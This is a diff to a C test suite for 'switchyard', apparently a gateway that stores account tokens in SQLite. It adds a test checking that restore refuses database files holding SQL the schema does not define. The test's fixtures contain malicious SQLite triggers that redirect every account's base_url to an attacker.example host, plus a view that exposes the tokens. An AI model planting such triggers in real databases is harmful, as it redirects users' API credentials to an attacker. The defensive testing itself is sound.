@@ -132,7 +132,9 @@ static void test_backup_while_a_writer_commits_holds_everything_committed_before
           sqlite3_step(st) == SQLITE_ROW && strcmp((const char *)sqlite3_column_text(st, 0), "ok") == 0);
     sqlite3_finalize(st);
     sqlite3_close(c);
-    /* the copy is a database switchyard opens as it is */
+    /* the copy is a database switchyard opens as it is, once the test's own
+     * filler table is gone (a table the schema does not define is refused) */
+    test_sql_exec(out, "DROP TABLE filler");
     store *s = store_open(out, err, sizeof err);
     CHECK(s != NULL);
     store_close(s);
@@ -266,6 +268,47 @@ static void test_restore_checks_the_file_first(void)
     CHECK(strstr(err, "is the database itself") != NULL);
 }
 
+/* A backup takes rows, not SQL: a file holding an object switchyard's
+ * schema does not define (a trigger that would send every account's token
+ * elsewhere, a slow one that would stall the writer, a view, an index, a
+ * table), or one of its triggers with other SQL, is refused naming it, by
+ * restore and by every open; the database there is left as it was. */
+static void test_restore_refuses_sql_the_schema_does_not_define(void)
+{
+    char db[128], bad[128], err[512] = "";
+    test_path(db, sizeof db, "live");
+    test_db_make(db, 2);
+    static const struct {
+        const char *sql, *named;
+    } cases[] = {
+        {"CREATE TRIGGER steal AFTER INSERT ON request_logs BEGIN"
+         " UPDATE accounts SET base_url = 'http://attacker.example/v1'; END;", "trigger steal"},
+        {"CREATE VIEW tokens AS SELECT token FROM accounts;", "view tokens"},
+        {"CREATE INDEX accounts_token ON accounts(token);", "index accounts_token"},
+        {"CREATE TABLE notes(x);", "table notes"},
+        /* one of ours, its body replaced */
+        {"DROP TRIGGER accounts_update_bump; CREATE TRIGGER accounts_update_bump AFTER UPDATE ON accounts BEGIN"
+         " UPDATE accounts SET base_url = 'http://attacker.example/v1' WHERE base_url != 'http://attacker.example/v1';"
+         " END;", "trigger accounts_update_bump"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+        test_path(bad, sizeof bad, "bad");
+        test_db_make(bad, 1);
+        test_sql_exec_flags(bad, cases[i].sql, 0);
+        CHECK_EQ_INT(store_restore(bad, db, NULL, err, sizeof err), -1);
+        if (!strstr(err, cases[i].named))
+            fprintf(stderr, "  case %zu: got '%s'\n", i, err);
+        CHECK(strstr(err, cases[i].named) != NULL);
+        CHECK(strstr(err, "does not define") != NULL);
+        CHECK_EQ_INT(test_sql_int(db, "SELECT count(*) FROM accounts WHERE base_url LIKE '%attacker%'"), 0);
+        CHECK(!test_exists(db, STORE_BEFORE_RESTORE_SUFFIX));
+        store *s = store_open(bad, err, sizeof err); /* nor is such a file opened */
+        CHECK(s == NULL);
+        CHECK(strstr(err, cases[i].named) != NULL);
+        store_close(s);
+    }
+}
+
 /* The database there before is kept whole as .before-restore, its WAL
  * with it (rows still only in the WAL are not lost, and are not played into
  * the restored database); the restored copy opens and holds the copy's rows. */
@@ -340,6 +383,7 @@ int main(void)
     RUN(test_backup_while_a_writer_commits_holds_everything_committed_before);
     RUN(test_backup_refuses_an_existing_file_unless_forced);
     RUN(test_restore_is_refused_while_a_gateway_serves);
+    RUN(test_restore_refuses_sql_the_schema_does_not_define);
     RUN(test_restore_checks_the_file_first);
     RUN(test_restore_keeps_the_previous_database_with_its_wal);
     RUN(test_restore_takes_the_commits_in_the_wal_beside_the_file);
